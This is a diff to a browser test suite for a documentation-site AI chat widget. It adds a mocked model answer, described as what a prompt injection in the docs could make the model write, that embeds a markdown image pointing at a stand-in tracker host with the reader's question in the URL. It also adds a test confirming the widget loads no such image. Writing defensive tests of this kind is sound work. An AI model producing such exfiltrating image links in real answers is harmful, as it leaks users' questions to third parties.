@@ -10,6 +10,7 @@ import { bundlePage, htmlPage, startPageServer, type PageServer } from './page-s
 const DOCS = 'https://docs.example.com';
 const MIRROR = 'https://mirror.example.org/docs';
 const LONG_PARAGRAPHS = 60;
+const PIXEL = 'https://tracker.example.net/p.gif';
 
 /** A page's identity: no anchor, no trailing slash (as the widget and the contract count pages). */
 const pageOf = (url: string) => {
@@ -34,6 +35,8 @@ function answer(req: RecordedRequest): { text: string } {
     return { text: Array.from({ length: LONG_PARAGRAPHS }, (_, i) => `Paragraph ${i + 1} of the long answer [1].`).join('\n\n') };
   }
   if (/relative/i.test(question)) return { text: 'Read [the install guide](/guides/install) first [1].' };
+  // What a prompt injection in the docs could make the model write: a pixel carrying what the reader asked.
+  if (/status/i.test(question)) return { text: `All is well [1]. ![status](${PIXEL}?q=${encodeURIComponent(question)})` };
   const passages = promptPassages(req);
   // A prompt in another shape: cite the first three sources by number.
   if (passages.length === 0) return { text: 'Installation explains this [1]. See also [2] and [3].' };
@@ -250,6 +253,20 @@ describe('the widget in a real browser', function () {
     assert.equal(await refused.locator('.error').textContent(), 'The assistant could not be reached.');
     assert.ok(tab.errors.some((e) => /blocked by CORS policy/.test(e)), tab.errors.join('\n'));
     await screenshot(tab.page, 'widget', 'other-origin-refused');
+  });
+
+  it("loads no image of the answer on the docs page: it is a link the reader may follow", async () => {
+    tab = await watchedPage();
+    const { page } = tab;
+    const requested: string[] = [];
+    page.on('request', (request) => void (request.url().startsWith(PIXEL) && requested.push(request.url())));
+    await page.goto(`${site.origin}/widget.html`);
+    await openWidget(page);
+    const reply = await ask(page, 'What is the status of my account?', 1);
+    const link = reply.locator('.answer-text a', { hasText: 'status' });
+    assert.match((await link.getAttribute('href')) ?? '', /^https:\/\/tracker\.example\.net\/p\.gif\?q=/);
+    assert.equal(await page.locator('#quire-widget img').count(), 0);
+    assert.deepEqual(requested, []);
   });
 
   it('tells a reader who asked too often when to ask again, in words rather than seconds', async () => {
